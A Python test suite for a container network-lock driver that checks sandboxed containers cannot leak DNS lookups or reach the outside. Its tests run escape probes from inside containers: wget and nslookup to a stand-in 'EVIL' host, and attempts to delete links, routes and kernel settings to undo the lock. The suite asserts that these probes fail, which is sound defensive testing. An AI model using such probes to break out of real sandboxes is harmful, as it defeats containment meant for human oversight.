# SPDX-License-Identifier: Apache-2.0
"""The lock in containers of a real engine, without the daemon: with a driver of
a few lines, and the daemon's own watcher.

The first network is not locked. It shows that the engine does leak where these
tests look: otherwise their silence would mean nothing."""
import os
import subprocess
import time

from driver import Driver
from engine import Engine, settle, steady
from lab import EVIL

LOOPBACK = "nameserver 127.0.0.1\n"


class Case:
    def __init__(self, lab):
        self.lab = lab
        self.count = 0

    def start(self):
        tool = os.environ["LOCK_TOOL"]
        self.driver = Driver(self.lab, tool)
        self.open = Driver(self.lab, tool, "open", locks=False)
        self.lab.resolv(LOOPBACK)
        self.docker = Engine(self.lab).start()
        self.docker.image()
        for name, driver in ("agents", "tiny"), ("leaky", "open"):
            self.docker.run("network", "create", "-d", driver, name)

    def stop(self):
        if hasattr(self, "docker"):
            self.docker.stop()
            self.driver.stop()
            self.open.stop()

    def name(self):
        """A name that nobody has asked for."""
        self.count += 1
        return f"secret-{self.count}.tunnel.test"

    def container(self, *options, network="agents"):
        """Runs on, until removed."""
        self.count += 1
        name = f"c{self.count}"
        self.docker.run("run", "-d", "--name", name, "--network", network,
                        *options, "box", "sleep", "1000")
        if network == "agents":
            self.locked(name)
        return name

    def locked(self, name):
        key = self.docker.inspect(name)["NetworkSettings"]["SandboxKey"]
        said = settle(lambda: [t[1] for t in self.driver.told if t[0] == key]
                      [-1:], ["ok"])
        assert said == ["ok"], (self.driver.told, key)

    def last(self, failed):
        print(f"tables in place after Join: "
              f"{sorted(float(t[2]) for t in self.driver.told)} ms")
        return all(t[1] == "ok" for t in self.driver.told)


def sh(case, container, script):
    return case.docker.sh(container, script)


def table(case, container):
    return case.docker.inside(container, "nft", "list", "table", "inet",
                              "sallyport_lock")


def test_the_engine_leaks(case):
    """What the tables are for."""
    name = case.name()
    case.docker.run("run", "--rm", "--network", "leaky", "box", "nslookup",
                    name, check=False)
    assert case.lab.asked(name), "the engine asks nobody: see engine.py"
    c = case.container(network="leaky")
    case.docker.run("network", "connect", "bridge", c)
    got = sh(case, c, f"timeout 30 wget -qO- http://{EVIL}/")
    assert "hello" in got.stdout, got
    case.docker.run("rm", "-f", c)
    # It is the one packet to there that this file wants.
    case.lab.wait(lambda: case.lab.packets(f"dst host {EVIL}"), "the packet")
    steady(lambda: len(case.lab.packets(f"dst host {EVIL}")))


def test_link(case):
    c = case.container()
    assert case.docker.links(c) == ["eth0", "lo"]
    assert "oifgroup 21328 accept" in table(case, c)
    assert "group 21328" in case.docker.inside(c, "ip", "link", "show", "eth0")
    case.docker.run("rm", "-f", c)


def test_names(case):
    """By every port of the engine's resolver, UDP and TCP."""
    c = case.container()
    ports = set()
    for proto in "udp", "tcp":
        lines = sh(case, c, f"cat /proc/net/{proto}").stdout.splitlines()[1:]
        ports |= {int(line.split()[1].split(":")[1], 16) for line in lines
                  if line.split()[1].startswith("0B00007F")}
    assert len(ports) >= 1, ports
    for port in 53, *ports:
        name = case.name()
        got = sh(case, c, f"nslookup {name} 127.0.0.11:{port}")
        assert "198.51.100.7" in got.stdout, (port, got)
        assert ("udp", name) in case.driver.questions(), port
        assert not case.lab.asked(name), port
    name = case.name()
    question = (b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + b"".join(
        bytes([len(p)]) + p.encode() for p in name.split(".")) +
        b"\0\0\1\0\1")
    text = "".join(f"\\x{b:02x}" for b in
                   len(question).to_bytes(2, "big") + question)
    for port in 53, *ports:
        sh(case, c, f"(printf '{text}'; sleep 1) | timeout 30 "
           f"nc 127.0.0.11 {port} >/dev/null")
    got = settle(lambda: case.driver.questions().count(("tcp", name)),
                 1 + len(ports))
    assert got == 1 + len(ports), got
    assert not case.lab.asked(name)
    case.docker.run("rm", "-f", c)


def test_first_breath(case):
    """Containers whose only deed is to ask, at once: the engine tells nobody
    when their namespace is there, and does not wait."""
    for settings in LOOPBACK, "nameserver 127.0.0.53\n":
        case.lab.resolv(settings)
        names = [case.name() for _ in range(6)]
        for name in names:
            got = case.docker.run("run", "--rm", "--network", "agents", "box",
                                  "nslookup", name)
            assert "198.51.100.7" in got.stdout, got
        # And with the machine busy.
        busy = [subprocess.Popen(["sh", "-c", "while :; do :; done"])
                for _ in range(3 * len(os.sched_getaffinity(0)))]
        try:
            names += [case.name() for _ in range(4)]
            for name in names[-4:]:
                case.docker.run("run", "--rm", "--network", "agents", "box",
                                "nslookup", name)
        finally:
            for process in busy:
                process.kill()
                process.wait()
        leaked = [name for name in names if case.lab.asked(name)]
        assert not leaked, leaked
    case.lab.resolv(LOOPBACK)


def test_resolver_settings(case):
    """Whatever the engine's resolver is set to, and the container's."""
    for resolv in LOOPBACK, "nameserver 93.184.216.53\n", "":
        case.lab.resolv(resolv)
        for options in (), ("--dns", "127.0.0.1"), ("--dns", "93.184.216.53"):
            name = case.name()
            got = case.docker.run("run", "--rm", "--network", "agents",
                                  *options, "box", "nslookup", name)
            assert "198.51.100.7" in got.stdout, (resolv, options, got)
            assert not case.lab.asked(name), (resolv, options)
    case.lab.resolv(LOOPBACK)


def test_second_network(case):
    """Connected while it runs, or before it starts; in either order of names,
    which decides whose the default route is."""
    for early in False, True:
        for network in "bridge", "zz":
            if network == "zz":
                case.docker.run("network", "create", network)
            before = len(case.lab.packets(f"dst host {EVIL}"))
            if early:
                c = "early-" + network
                case.docker.run("create", "--name", c, "--network", "agents",
                                "box", "sleep", "1000")
                case.docker.run("network", "connect", network, c)
                case.docker.run("start", c)
                case.locked(c)
            else:
                c = case.container()
                case.docker.run("network", "connect", network, c)
            assert case.docker.links(c) == ["eth0", "eth1", "lo"]
            gateway = case.docker.inspect(c)["NetworkSettings"]["Networks"][
                network]["Gateway"]
            # The default capabilities have NET_RAW: ping, too.
            for deed in (f"timeout 2 wget -qO- http://{EVIL}/",
                         f"timeout 2 nslookup {case.name()} {EVIL}",
                         f"ping -c 1 -W 1 {gateway}",
                         f"ping -c 1 -W 1 {EVIL}"):
                got = sh(case, c, deed)
                assert got.returncode, (network, early, deed, got)
            assert 'counter left' in table(case, c)
            name = case.name()
            got = sh(case, c, f"nslookup {name}")
            assert "198.51.100.7" in got.stdout, (network, early, got)
            assert not case.lab.asked(name)
            case.docker.run("network", "disconnect", network, c)
            case.docker.run("network", "connect", network, c)
            assert sh(case, c, f"timeout 2 wget -qO- http://{EVIL}/").returncode
            case.docker.run("rm", "-f", c)
            assert len(case.lab.packets(f"dst host {EVIL}")) == before
            if network == "zz":
                case.docker.run("network", "rm", network)


def test_restarted_container(case):
    """A new namespace, and new tables in it."""
    c = case.container()
    was = os.readlink(f"/proc/{case.docker.pid(c)}/ns/net")
    case.docker.run("restart", "-t", "0", c)
    case.locked(c)
    assert os.readlink(f"/proc/{case.docker.pid(c)}/ns/net") != was
    name = case.name()
    assert "198.51.100.7" in sh(case, c, f"nslookup {name}").stdout
    assert not case.lab.asked(name)
    case.docker.run("rm", "-f", c)


def test_it_cannot_be_undone(case):
    """With the capabilities that a container has unless told otherwise."""
    c = case.container()
    case.docker.run("network", "connect", "bridge", c)
    for deed in ("ip link set eth1 group 21328", "ip link set eth1 down",
                 "ip link del eth1", "echo 0 >/proc/sys/net/ipv4/conf/all/"
                 "route_localnet", "ip route del default"):
        assert sh(case, c, deed).returncode, deed
    assert sh(case, c, f"timeout 2 wget -qO- http://{EVIL}/").returncode
    case.docker.run("rm", "-f", c)


def test_fresh_exec_root(case):
    """An engine that has never had a container has no directory for their
    namespaces yet."""
    case.docker.stop()
    os.rmdir("/run/docker/netns") if os.path.isdir("/run/docker/netns") else 0
    time.sleep(0.1)
    case.docker.start()
    assert not os.path.isdir("/run/docker/netns")
    name = case.name()
    got = case.docker.run("run", "--rm", "--network", "agents", "box",
                          "nslookup", name)
    assert "198.51.100.7" in got.stdout, got
    assert not case.lab.asked(name)
